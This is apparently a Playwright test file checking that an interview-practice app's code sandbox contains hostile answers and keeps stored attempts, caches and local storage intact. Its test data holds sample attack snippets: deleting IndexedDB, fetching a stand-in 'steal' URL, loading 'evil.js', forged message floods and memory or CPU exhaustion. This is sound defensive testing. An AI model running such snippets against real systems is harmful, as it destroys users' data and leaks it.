// The sandbox that runs candidate code, in the production build: hostile
// transcripts go through the review's "Run tests" (as an answer on a page, or
// in a backup someone sent, would) and each fails with a clear message in the
// results, while every stored attempt stays byte for byte as it was (a dump
// of IndexedDB before and after), the caches and local storage too, and no
// request leaves for any origin. Then the sandbox still runs a right answer.
import { readFileSync } from 'node:fs'
import { expect, test, type Page } from '@playwright/test'
import { createAttempt } from '../../src/core/attempts/attempt'
import type { Attempt } from '../../src/core/attempts/schema'
import { buildBackup } from '../../src/core/backup/backup'
import { dumpIdb, type IdbDump } from './idb'

const MIN = 60_000
const twoSum = JSON.parse(readFileSync('problems/two-sum/problem.json', 'utf8')) as { title: string; tests: unknown[] }
const PNG = Uint8Array.from(atob('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='), (c) => c.charCodeAt(0))

function attempt(id: string, language: 'python' | 'javascript', code: string, extra: Partial<Attempt> = {}): Attempt {
  const startedAt = Date.UTC(2026, 0, 5, 9, 0)
  const a = createAttempt({ problemId: 'two-sum', problemTitle: twoSum.title, language, suggestedMs: 15 * MIN, now: startedAt, id })
  return {
    ...a,
    status: 'finished',
    endedAt: startedAt + 10 * MIN,
    timer: { suggestedMs: 15 * MIN, elapsedMs: 10 * MIN, runningSince: null },
    updatedAt: startedAt + 10 * MIN,
    transcript: { recognised: code, edited: code, lines: [], ocrMs: 500 },
    ...extra,
  }
}

// Attempts that no run touches: with ink, an image, a rating and notes.
const bystanders = [1, 2].map((i) =>
  attempt(`bystander-${i}`, 'python', `def two_sum(nums, target):\n    return [${i}, 0]\n`, {
    ink: { format: 'ink/v1', strokes: [{ points: [[10, 10, 0.5, 0], [22, 31, 0.5, 16]] }], language: 'python' },
    image: new Blob([PNG], { type: 'image/png' }),
    rating: { correctness: 2, notes: `kept ${i}` },
    outcome: 'partial',
  }),
)

/** Hostile answers: what each tries, and the message the results must show. */
function hostile(origin: string): { id: string; language: 'python' | 'javascript'; code: string; shows: RegExp }[] {
  return [
    {
      id: 'js-delete-database',
      language: 'javascript',
      code: "function twoSum() { indexedDB.deleteDatabase('inkterview'); return [0, 1] }",
      shows: /SecurityError: .*(denied|not allowed|sandbox|opaque)/i,
    },
    {
      id: 'js-open-database',
      language: 'javascript',
      code: "async function twoSum() { return await new Promise((ok, no) => { const r = indexedDB.open('inkterview'); r.onsuccess = () => ok(r.result.objectStoreNames.length); r.onerror = () => no(r.error) }) }",
      shows: /SecurityError: .*(denied|not allowed|sandbox|opaque)/i,
    },
    {
      id: 'js-caches',
      language: 'javascript',
      code: 'async function twoSum() { const names = await caches.keys(); for (const n of names) await caches.delete(n); return names }',
      shows: /(SecurityError|ReferenceError): .*(cache|caches)/i,
    },
    {
      id: 'js-local-storage',
      language: 'javascript',
      code: "function twoSum() { localStorage.clear(); return [0, 1] }",
      shows: /ReferenceError: localStorage is not defined/,
    },
    {
      id: 'js-the-page',
      language: 'javascript',
      code: "function twoSum() { parent.document.body.innerHTML = 'pwned'; return [0, 1] }",
      shows: /ReferenceError: parent is not defined/,
    },
    {
      id: 'js-fetch-other-origin',
      language: 'javascript',
      code: "async function twoSum() { await fetch('https://example.com/steal?data=1'); return [0, 1] }",
      shows: /TypeError: Failed to fetch/,
    },
    {
      id: 'js-fetch-own-origin',
      language: 'javascript',
      code: `async function twoSum() { const r = await fetch('${origin}/sw.js'); return [r.status] }`,
      shows: /TypeError: Failed to fetch/,
    },
    {
      id: 'js-xhr',
      language: 'javascript',
      code: "function twoSum() { const x = new XMLHttpRequest(); x.open('GET', 'https://example.com/x', false); x.send(); return [x.status] }",
      shows: /NetworkError: .*XMLHttpRequest.*example\.com/,
    },
    {
      id: 'js-websocket',
      language: 'javascript',
      code: "async function twoSum() { await new Promise((ok, no) => { const ws = new WebSocket('wss://example.com/'); ws.onopen = ok; ws.onerror = () => no(new Error('the WebSocket was refused')) }); return [0, 1] }",
      shows: /(Error: the WebSocket was refused|SecurityError: .*WebSocket)/,
    },
    {
      id: 'js-import-scripts',
      language: 'javascript',
      code: "function twoSum() { importScripts('https://example.com/evil.js'); return [0, 1] }",
      shows: /NetworkError: .*importScripts.*example\.com\/evil\.js/,
    },
    {
      id: 'js-post-message-flood',
      language: 'javascript',
      // Forged results for every likely run id, 4,000 messages (once, on the first call): the page must show this run's own result.
      code:
        "let flooded = 0\nfunction twoSum(nums, target) { const fake = { outcomes: [] }; for (; flooded < 2000; flooded++) { postMessage({ type: 'js-done', id: flooded % 500, response: fake }); postMessage({ type: 'progress', id: flooded % 500, progress: { type: 'perf-reference' } }) } throw new Error('posted 4,000 messages') }",
      shows: /Error: posted 4,000 messages/,
    },
    {
      id: 'js-endless-loop',
      language: 'javascript',
      code: 'function twoSum() { while (true) {} }',
      shows: /stopped after 5 s: the code took too long/,
    },
    {
      id: 'js-2gb',
      language: 'javascript',
      code: 'function twoSum() { const big = new Uint8Array(2 * 1024 ** 3); big.fill(1); return [big.length] }',
      shows: /RangeError: memory limit: the answer asked for 2,048 MB of buffers; the limit is 512 MB/,
    },
    {
      id: 'py-js-module-page',
      language: 'python',
      code: 'import js\n\ndef two_sum(nums, target):\n    return js.document.title\n',
      shows: /(AttributeError|JsException).*document/,
    },
    {
      id: 'py-js-module-storage',
      language: 'python',
      code: "import js\n\ndef two_sum(nums, target):\n    js.indexedDB.deleteDatabase('inkterview')\n    return [0, 1]\n",
      shows: /SecurityError: .*(denied|not allowed|sandbox|opaque)/i,
    },
    {
      id: 'py-js-fetch',
      language: 'python',
      code: "import js\n\nasync def two_sum(nums, target):\n    await js.fetch('https://example.com/steal')\n    return [0, 1]\n",
      shows: /TypeError: Failed to fetch/,
    },
    {
      id: 'py-post-message-flood',
      language: 'python',
      code: "import js\n\nfake = js.JSON.parse('{\"type\": \"python-done\", \"id\": 1, \"result\": {\"outcomes\": []}}')\nfor i in range(2000):\n    fake.id = i % 500\n    js.postMessage(fake)\n\ndef two_sum(nums, target):\n    raise RuntimeError('posted 2,000 messages')\n",
      shows: /RuntimeError: posted 2,000 messages/,
    },
    {
      id: 'py-2gb',
      language: 'python',
      // 2 GB less one byte: the largest object Pyodide's 32-bit sizes allow (2 ** 31 itself is an OverflowError).
      code: 'def two_sum(nums, target):\n    big = bytearray(2 ** 31 - 1)\n    return [len(big)]\n',
      shows: /MemoryError: the answer asked for more memory than it may use \(line 2\)/,
    },
    {
      id: 'py-endless-loop',
      language: 'python',
      code: 'def two_sum(nums, target):\n    while True:\n        pass\n',
      shows: /stopped after 5 s: the code took too long/,
    },
  ]
}

/** Drops what Run tests itself writes on the attempts it ran (their stored result and time of change). */
function withoutRunResults(dump: IdbDump, ran: ReadonlySet<string>): IdbDump {
  const strip = (v: unknown): unknown => {
    if (Array.isArray(v)) return v.map(strip)
    if (v && typeof v === 'object') {
      const o = v as Record<string, unknown>
      const out: Record<string, unknown> = {}
      for (const [k, x] of Object.entries(o)) if (!(typeof o.id === 'string' && ran.has(o.id) && (k === 'testRun' || k === 'updatedAt'))) out[k] = strip(x)
      return out
    }
    return v
  }
  return Object.fromEntries(
    Object.entries(dump).map(([db, stores]) => [
      db,
      Object.fromEntries(Object.entries(stores).map(([store, rows]) => [store, rows.map(([k, v]) => [k, JSON.stringify(strip(JSON.parse(v)))] as [string, string])])),
    ]),
  )
}

async function cacheDump(page: Page): Promise<Record<string, string[]>> {
  return page.evaluate(async () => {
    const out: Record<string, string[]> = {}
    for (const name of (await caches.keys()).sort()) out[name] = (await (await caches.open(name)).keys()).map((r) => r.url).sort()
    return out
  })
}

async function runTests(page: Page, id: string, timeout: number): Promise<string> {
  await page.goto(`/#/attempt/${id}`)
  const button = page.getByRole('button', { name: /^Run (tests|the tests again)$/ })
  await expect(button).toBeEnabled()
  await button.click()
  await expect(page.getByRole('button', { name: 'Run the tests again' })).toBeEnabled({ timeout })
  return page.locator('.test-results').innerText()
}

test('hostile answers fail with a clear message, and nothing stored changes', async ({ page, context, baseURL }) => {
  test.setTimeout(1_200_000)
  const origin = new URL(baseURL!).origin
  const urls: string[] = []
  context.on('request', (r) => urls.push(r.url()))
  // Why each request to another origin failed (a request the browser refused still shows as a request).
  const failures = new Map<string, string>()
  const answered: string[] = []
  context.on('requestfailed', (r) => failures.set(r.url(), r.failure()?.errorText ?? '?'))
  context.on('response', (r) => answered.push(r.url()))
  const attacks = hostile(origin)
  const right = attempt('right-answer', 'javascript', readFileSync('problems/two-sum/solution.js', 'utf8'))
  const all = [...bystanders, ...attacks.map((h) => attempt(h.id, h.language, h.code)), right]

  await page.goto('/#/settings')
  await page.getByLabel('Import a backup', { exact: true }).setInputFiles({ name: 'hostile.zip', mimeType: 'application/zip', buffer: Buffer.from(await buildBackup(all)) })
  await expect(page.getByTestId('settings-result')).toContainText(`Imported ${all.length} attempts`)
  // The service worker's caches exist, and a value in local storage: both must survive.
  await page.evaluate(() => navigator.serviceWorker.ready)
  await page.waitForFunction(async () => (await caches.keys()).length > 0, undefined, { timeout: 120_000 })
  await page.evaluate(() => localStorage.setItem('inkterview.sandbox-probe', 'still here'))
  const before = { idb: await dumpIdb(page), caches: await cacheDump(page) }
  expect(Object.keys(before.idb)).toContain('inkterview')
  expect(Object.values(before.caches).flat().length).toBeGreaterThan(10)

  const seen: string[] = []
  for (const h of attacks) {
    const text = await runTests(page, h.id, h.language === 'python' ? 300_000 : 60_000)
    seen.push(`${h.id}: ${text.split('\n').find((l) => h.shows.test(l)) ?? text.slice(0, 300).replace(/\n/g, ' | ')}`)
    expect(text, h.id).toMatch(h.shows)
    expect(text, h.id).not.toContain(`${twoSum.tests.length} of ${twoSum.tests.length} tests passed`)
  }
  console.log(`sandbox: what each hostile answer got\n  ${seen.join('\n  ')}`)

  // The sandbox still works, and the page is alive after the floods.
  const ok = await runTests(page, right.id, 60_000)
  expect(ok).toContain(`${twoSum.tests.length} of ${twoSum.tests.length} tests passed`)

  const after = { idb: await dumpIdb(page), caches: await cacheDump(page) }
  const ran = new Set([...attacks.map((h) => h.id), right.id])
  expect(withoutRunResults(after.idb, ran)).toEqual(withoutRunResults(before.idb, ran))
  // The bystanders byte for byte, run results and all.
  for (const id of bystanders.map((b) => b.id)) {
    const rows = (d: IdbDump) => Object.values(d.inkterview!).flat().filter(([k]) => k.includes(id))
    expect(rows(after.idb)).toEqual(rows(before.idb))
    expect(rows(before.idb).length).toBeGreaterThan(0)
  }
  expect(after.caches).toEqual(before.caches)
  expect(await page.evaluate(() => localStorage.getItem('inkterview.sandbox-probe'))).toBe('still here')
  // Not one request left our origin: the browser refused each one the sandbox tried (its policy), and none got an answer.
  const elsewhere = [...new Set(urls.filter((u) => !u.startsWith(`${origin}/`) && !/^(data|blob):/.test(u)))]
  console.log(`sandbox: requests to other origins and why they failed: ${JSON.stringify(elsewhere.map((u) => [u, failures.get(u)]))}`)
  for (const u of elsewhere) expect(failures.get(u), u).toMatch(/^(csp|net::ERR_BLOCKED_BY_CSP)$/i)
  expect(answered.filter((u) => !u.startsWith(`${origin}/`) && !/^(data|blob):/.test(u))).toEqual([])
})
